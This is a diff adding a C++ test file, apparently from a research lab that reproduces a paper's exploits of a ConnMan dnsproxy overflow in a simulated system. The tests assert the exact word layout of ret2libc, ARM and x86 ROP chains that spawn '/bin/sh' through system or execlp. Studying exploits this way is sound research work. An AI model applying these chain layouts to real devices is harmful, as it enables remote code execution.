@@ -1,0 +1,149 @@
+// Golden-structure tests: the generated payloads must have exactly the
+// word-level layout of the paper's listings (2, 3, 4, 5) — not merely
+// "some chain that works".
+#include <gtest/gtest.h>
+
+#include "src/connman/dnsproxy.hpp"
+#include "src/connman/frame.hpp"
+#include "src/exploit/generator.hpp"
+#include "src/exploit/profile.hpp"
+#include "src/exploit/ret2libc.hpp"
+#include "src/exploit/rop_arm.hpp"
+#include "src/exploit/rop_x86.hpp"
+#include "src/loader/boot.hpp"
+
+namespace connlab::exploit {
+namespace {
+
+using isa::Arch;
+using loader::Boot;
+using loader::ProtectionConfig;
+
+std::uint32_t WordAt(const dns::PayloadImage& image, std::uint32_t offset) {
+  return static_cast<std::uint32_t>(image.at(offset)) |
+         (static_cast<std::uint32_t>(image.at(offset + 1)) << 8) |
+         (static_cast<std::uint32_t>(image.at(offset + 2)) << 16) |
+         (static_cast<std::uint32_t>(image.at(offset + 3)) << 24);
+}
+
+TargetProfile Extract(Arch arch, ProtectionConfig prot) {
+  auto sys = Boot(arch, prot, 100).value();
+  connman::DnsProxy proxy(*sys, connman::Version::k134);
+  ProfileExtractor extractor(*sys, proxy);
+  auto profile = extractor.Extract();
+  EXPECT_TRUE(profile.ok()) << profile.status().ToString();
+  return profile.value_or(TargetProfile{});
+}
+
+// Paper §III-B1: the x86 ret-to-libc frame is [&system][&exit][&"/bin/sh"].
+TEST(Listings, X86Ret2LibcFrame) {
+  TargetProfile profile = Extract(Arch::kVX86, ProtectionConfig::WxOnly());
+  auto image = BuildRet2Libc(profile);
+  ASSERT_TRUE(image.ok());
+  const std::uint32_t ret = profile.ret_offset;
+  EXPECT_EQ(WordAt(image.value(), ret), profile.libc_system);
+  EXPECT_EQ(WordAt(image.value(), ret + 4), profile.libc_exit);
+  EXPECT_EQ(WordAt(image.value(), ret + 8), profile.libc_binsh);
+  EXPECT_EQ(image.value().size(), ret + 12);
+}
+
+// Paper Listing 2: [pop gadget]; r0 = static &"/bin/sh"; r1 = NULL; r5/r6 =
+// the parse_rr placeholders; pc = execlp@plt.
+TEST(Listings, Listing2ArmExeclpFrame) {
+  TargetProfile profile = Extract(Arch::kVARM, ProtectionConfig::WxOnly());
+  auto image = BuildArmExeclpGadget(profile);
+  ASSERT_TRUE(image.ok());
+  const std::uint32_t ret = profile.ret_offset;
+  const std::uint32_t chain = ret + 4;
+  EXPECT_EQ(WordAt(image.value(), ret), profile.gadget_pop_regs);
+  EXPECT_EQ(WordAt(image.value(), chain + 0), profile.libc_binsh);  // r0
+  EXPECT_EQ(WordAt(image.value(), chain + 4), 0u);                  // r1 NULL
+  EXPECT_EQ(WordAt(image.value(), chain + 16),
+            profile.chain_fixups.at(16));                           // r5
+  EXPECT_EQ(WordAt(image.value(), chain + 20),
+            profile.chain_fixups.at(20));                           // r6
+  EXPECT_EQ(WordAt(image.value(), chain + 28), profile.plt_execlp); // pc
+}
+
+// Paper Listing 3: each x86 memcpy frame is
+// [memcpy@plt][pppr][bss+i][&char][1][garbage].
+TEST(Listings, Listing3X86MemcpyFrames) {
+  TargetProfile profile = Extract(Arch::kVX86, ProtectionConfig::WxAslr());
+  auto image = BuildRopX86(profile, "/bin/sh");
+  ASSERT_TRUE(image.ok());
+  const std::string str = "/bin/sh";
+  std::uint32_t c = profile.ret_offset;
+  for (std::size_t i = 0; i < str.size(); ++i) {
+    EXPECT_EQ(WordAt(image.value(), c + 0), profile.plt_memcpy) << i;
+    EXPECT_EQ(WordAt(image.value(), c + 4), profile.gadget_pop_ret4) << i;
+    EXPECT_EQ(WordAt(image.value(), c + 8),
+              profile.bss + static_cast<std::uint32_t>(i)) << i;
+    EXPECT_EQ(WordAt(image.value(), c + 12), profile.char_addrs.at(str[i])) << i;
+    EXPECT_EQ(WordAt(image.value(), c + 16), 1u) << i;
+    // c + 20 is the garbage word: must be don't-care for the cutter.
+    EXPECT_FALSE(image.value().required(c + 20)) << i;
+    c += 24;
+  }
+  // Paper Listing 4: [execlp@plt][spacer][&bss][NULL].
+  EXPECT_EQ(WordAt(image.value(), c + 0), profile.plt_execlp);
+  EXPECT_FALSE(image.value().required(c + 4));  // spacer
+  EXPECT_EQ(WordAt(image.value(), c + 8), profile.bss);
+  EXPECT_EQ(WordAt(image.value(), c + 12), 0u);
+}
+
+// Paper Listing 5: each ARM memcpy frame is
+// [r0=bss+4+i][r1=&char][r2=1][r3=memcpy@plt][r5][r6][r7][pc=blx r3]
+// followed by the blx-offset word and the next pop gadget.
+TEST(Listings, Listing5ArmMemcpyFrames) {
+  TargetProfile profile = Extract(Arch::kVARM, ProtectionConfig::WxAslr());
+  auto image = BuildArmRopChain(profile, {});
+  ASSERT_TRUE(image.ok());
+  const std::string str = "sh";
+  const std::uint32_t ret = profile.ret_offset;
+  EXPECT_EQ(WordAt(image.value(), ret), profile.gadget_pop_regs);
+  std::uint32_t c = ret + 4;
+  for (std::size_t i = 0; i < str.size(); ++i) {
+    EXPECT_EQ(WordAt(image.value(), c + 0),
+              profile.bss + 4 + static_cast<std::uint32_t>(i)) << i;  // r0
+    EXPECT_EQ(WordAt(image.value(), c + 4), profile.char_addrs.at(str[i])) << i;
+    EXPECT_EQ(WordAt(image.value(), c + 8), 1u) << i;                 // r2
+    EXPECT_EQ(WordAt(image.value(), c + 12), profile.plt_memcpy) << i;
+    EXPECT_EQ(WordAt(image.value(), c + 28), profile.gadget_blx_r3) << i;
+    // The "offset characters for blx" word (Listing 5 line 10): dont-care.
+    EXPECT_FALSE(image.value().required(c + 32)) << i;
+    EXPECT_EQ(WordAt(image.value(), c + 36), profile.gadget_pop_regs) << i;
+    c += 40;
+  }
+  // First frame's r5/r6 carry the parse_rr placeholders (lines 7-8).
+  EXPECT_EQ(WordAt(image.value(), ret + 4 + 16), profile.chain_fixups.at(16));
+  EXPECT_EQ(WordAt(image.value(), ret + 4 + 20), profile.chain_fixups.at(20));
+  // Final frame: execlp(bss+4, NULL).
+  EXPECT_EQ(WordAt(image.value(), c + 0), profile.bss + 4);
+  EXPECT_EQ(WordAt(image.value(), c + 4), 0u);
+  EXPECT_EQ(WordAt(image.value(), c + 28), profile.plt_execlp);
+}
+
+// §III-A: the ARM injection must stop at the saved lr (no spray past it, so
+// the parse_rr slots keep their benign values) while x86 sprays onward.
+TEST(Listings, CodeInjectionSprayPolicy) {
+  TargetProfile x86 = Extract(Arch::kVX86, ProtectionConfig::None());
+  ExploitGenerator gx(x86);
+  auto image_x = gx.BuildImage(Technique::kCodeInjection);
+  ASSERT_TRUE(image_x.ok());
+  EXPECT_GT(image_x.value().size(), x86.ret_offset + 4);  // the spray
+
+  TargetProfile arm = Extract(Arch::kVARM, ProtectionConfig::None());
+  ExploitGenerator ga(arm);
+  auto image_a = ga.BuildImage(Technique::kCodeInjection);
+  ASSERT_TRUE(image_a.ok());
+  EXPECT_EQ(image_a.value().size(), arm.ret_offset + 4);  // stops at lr
+  // The NULL cleanup slots are pinned to zero (§III-A2).
+  const connman::FrameLayout frame =
+      connman::FrameFor(ProtectionConfig::None(), Arch::kVARM);
+  EXPECT_TRUE(image_a.value().required(frame.null_slot0()));
+  EXPECT_EQ(WordAt(image_a.value(), frame.null_slot0()), 0u);
+  EXPECT_EQ(WordAt(image_a.value(), frame.null_slot1()), 0u);
+}
+
+}  // namespace
+}  // namespace connlab::exploit
